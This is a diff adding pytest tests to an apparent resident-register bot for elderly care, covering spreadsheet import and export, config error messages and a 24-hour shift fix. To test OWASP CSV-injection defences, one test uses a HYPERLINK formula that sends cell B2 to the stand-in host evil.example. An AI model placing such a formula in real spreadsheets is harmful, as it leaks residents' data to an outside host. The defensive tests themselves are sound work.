@@ -104,14 +104,16 @@ def test_cli_import_reports_bad_rows_and_lists(redis_server, tmp_path):
     res = run_cli("--config", str(config), "residents", "import", str(bad), env_extra=env)
     assert res.returncode == 1
     assert "line 3: phone" in res.stderr and "nothing from" in res.stderr
-    good = csv_file(tmp_path, ROW_A, name="good.csv")
+    good = csv_file(tmp_path, ROW_A.replace("心脏不好", "=1+2"), name="good.csv")
     res = run_cli("--config", str(config), "residents", "import", str(good), env_extra=env)
     assert res.returncode == 0 and "1 added" in res.stdout
+    assert "check: line 2: notes starts with '='" in res.stdout  # flagged in the import report
     res = run_cli("--config", str(config), "residents", "list", env_extra=env)
     assert "陈阿公" in res.stdout and "13900000011" not in res.stdout  # phones masked in listings
     out = tmp_path / "export.csv"
     res = run_cli("--config", str(config), "residents", "export", str(out), env_extra=env)
     assert res.returncode == 0 and "13900000011" in out.read_text(encoding="utf-8-sig")
+    assert "'=1+2" in out.read_text(encoding="utf-8-sig")
 
 
 @pytest.mark.parametrize("mutate, expected", [
@@ -144,3 +146,130 @@ def test_the_bot_does_not_start_on_a_broken_config_and_says_one_line(tmp_path):
 def test_config_path_from_the_environment(tmp_path):
     res = run_cli(env_extra={"BOT_CONFIG": str(tmp_path / "missing.yaml")})
     assert res.returncode == 2 and "file not found" in res.stderr
+
+
+# --- spreadsheets carry no formulas out (OWASP CSV injection) ------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&B2,"张阿姨")'
+
+
+async def _stranger_approved(people, name: str, phone: str) -> None:
+    stranger, li = people(name), people("李社工")
+    await stranger.share_contact(phone)
+    await li.click(li.last("申请使用助手"), "同意")
+
+
+async def test_a_strangers_formula_name_is_exported_as_plain_text(app, people, tmp_path):
+    from openpyxl import load_workbook
+
+    await _stranger_approved(people, FORMULA_NAME, "13700001234")
+    await _stranger_approved(people, "@SUM(1+1)", "13700001235")
+    residents = await app.svc.store.residents()
+    out = tmp_path / "out.xlsx"
+    register.export_file(residents, out)
+    cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
+    name_cell = next(c for c in cells if c.value == FORMULA_NAME)
+    assert name_cell.data_type == "s" and name_cell.quotePrefix  # shown as the text it is
+    csv_out = tmp_path / "out.csv"
+    register.export_file(residents, csv_out)
+    text = csv_out.read_text(encoding="utf-8-sig")
+    assert "'" + FORMULA_NAME.replace('"', '""') in text and "'@SUM(1+1)" in text
+    assert "\n=" not in text and ",=" not in text and ",@" not in text
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+async def test_a_formula_like_register_round_trips_and_is_flagged_on_import(app, tmp_path, suffix):
+    rows = [ROW_A.replace("陈阿公", "-陈阿公").replace("心脏不好", '"+1 心脏, 见=备注"'),
+            ROW_B.replace("二零三", "203").replace("139 0000 0012", "+8613900000012")]
+    first = await register.import_file(app.svc.store, csv_file(tmp_path, *rows))
+    assert [f.split(":")[0] for f in first.flagged] == ["line 2", "line 2"]  # the name and the note
+    assert "name" in first.flagged[0] and "notes" in first.flagged[1]
+    out = tmp_path / f"out{suffix}"
+    register.export_file(await app.svc.store.residents(), out)
+    again = await register.import_file(app.svc.store, out)
+    assert (again.added, again.updated) == (0, 0)  # the neutralising mark does not come back in
+    people = {p["phone"]: p for p in await app.svc.store.residents()}
+    assert people["13900000011"]["name"] == "-陈阿公" and people["13900000011"]["notes"] == "+1 心脏, 见=备注"
+    assert people["13900000012"]["name"] == "周阿婆"  # +86 phones still round-trip as phones
+    assert len(again.flagged) == 2
+
+
+# --- one clear line for every bad file -------------------------------------------------------------------------
+
+def _config(tmp_path, **redis):
+    cfg = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
+    cfg["redis"].update(prefix="badfile-test:", **redis)
+    cfg["residents"]["seed_file"] = None
+    path = tmp_path / "c.yaml"
+    path.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
+    return path
+
+
+def _not_text_config(tmp_path):
+    (tmp_path / "c.yaml").write_bytes(b"community:\n  name: \xff\xfe\xff\n")
+    return ["--config", str(tmp_path / "c.yaml"), "residents", "list"]
+
+
+def _directory_as_config(tmp_path):
+    return ["--config", str(tmp_path), "residents", "list"]
+
+
+def _blocked_data_dir(tmp_path):
+    (tmp_path / "a-file").write_text("not a directory", encoding="utf-8")
+    return ["--config", str(_config(tmp_path, data_dir=str(tmp_path / "a-file" / "redis"))), "residents", "list"]
+
+
+def _import(tmp_path, name, content: bytes | None):
+    if content is not None:
+        (tmp_path / name).write_bytes(content)
+    return ["--config", str(_config(tmp_path)), "residents", "import", str(tmp_path / name)]
+
+
+BAD_FILES = {
+    "config that is not text": (_not_text_config, 2, "config error: {tmp}/c.yaml is not text"),
+    "a directory as the config": (_directory_as_config, 2, "config error: {tmp} is a directory"),
+    "a data_dir that cannot be written": (_blocked_data_dir, 2, "config error at redis.data_dir: cannot keep"),
+    "a missing import file": (lambda t: _import(t, "gone.csv", None), 1, "{tmp}/gone.csv: file not found"),
+    "a corrupt xlsx": (lambda t: _import(t, "ledger.xlsx", b"PK\x03\x04 half a zip"), 1,
+                       "{tmp}/ledger.xlsx: not a readable .xlsx file"),
+    "an old .xls": (lambda t: _import(t, "ledger.xls", b"\xd0\xcf\x11\xe0"), 1, "save it as .xlsx or .csv"),
+    "a CSV from Excel on Chinese Windows (GB18030)": (
+        lambda t: _import(t, "gbk.csv", "\n".join([HEADER, ROW_A]).encode("gb18030")), 0, "1 added"),
+}
+
+
+@pytest.mark.parametrize("case", BAD_FILES)
+def test_every_bad_file_gets_one_clear_line(redis_server, tmp_path, case):
+    make_args, code, line = BAD_FILES[case]
+    res = run_cli(*make_args(tmp_path), env_extra={} if "data_dir" in case else {"REDIS_URL": redis_server.url})
+    out = (res.stdout if code == 0 else res.stderr).strip().splitlines()
+    assert (res.returncode, len(out)) == (code, 1), res.stdout + res.stderr
+    assert line.format(tmp=tmp_path) in out[0] and "Traceback" not in res.stderr
+
+
+def test_a_config_saved_in_gbk_is_read(tmp_path):
+    text = (ROOT / "config.yaml").read_text(encoding="utf-8")
+    path = tmp_path / "gbk.yaml"
+    path.write_bytes(text.encode("gb18030"))
+    assert load_settings(path).staff[0].name == "李社工"
+
+
+@pytest.mark.parametrize("hour, minute, second", [(3, 0, 0), (7, 59, 30), (8, 0, 0), (14, 0, 0), (23, 59, 30)])
+async def test_a_shift_that_ends_when_it_starts_lasts_24_hours(make_app, settings, clock, hour, minute, second):
+    """"08:00"→"08:00" used to cover nothing, so everyone was woken at all hours."""
+    from datetime import datetime
+    from zoneinfo import ZoneInfo
+
+    from bot.testing.tools import Person
+    from conftest import signed_up
+
+    days = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"]
+    s = settings.model_copy(update={"roster": [type(settings.roster[0]).model_validate(
+        {"days": days, "from": "08:00", "to": "08:00", "staff": ["wang"]})]})
+    app = await make_app(settings_=s)
+    clock.set(datetime(2026, 11, 24, hour, minute, second, tzinfo=ZoneInfo("Asia/Shanghai")))
+    wang = await signed_up(Person(app, 5001, "王老伯"), "13900000002")
+    await wang.send("🆘 紧急求助")
+    assert "紧急求助 #1" in Person(app, 1002, "王社工").last("紧急求助").text
+    assert not Person(app, 1001, "李社工").texts() and not Person(app, 1003, "陈书记").texts()
